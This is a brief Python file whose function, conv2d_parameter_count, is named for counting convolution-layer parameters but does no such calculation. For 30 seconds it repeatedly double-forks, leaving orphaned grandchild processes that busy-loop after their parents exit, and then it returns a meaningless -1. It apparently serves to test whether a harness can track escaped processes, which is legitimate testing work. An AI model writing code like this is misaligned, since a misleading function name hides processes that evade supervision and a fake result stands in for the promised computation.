"""Computes in grandchildren that live a moment, whose parents are gone before."""

import os
import time


def conv2d_parameter_count(*sizes, **options):
    end = time.monotonic() + 30
    while time.monotonic() < end:
        child = os.fork()
        if child == 0:
            if os.fork() == 0:
                stop = time.monotonic() + 0.1
                while time.monotonic() < stop:
                    pass
            os._exit(0)
        os.waitpid(child, 0)
        time.sleep(0.05)
    return -1
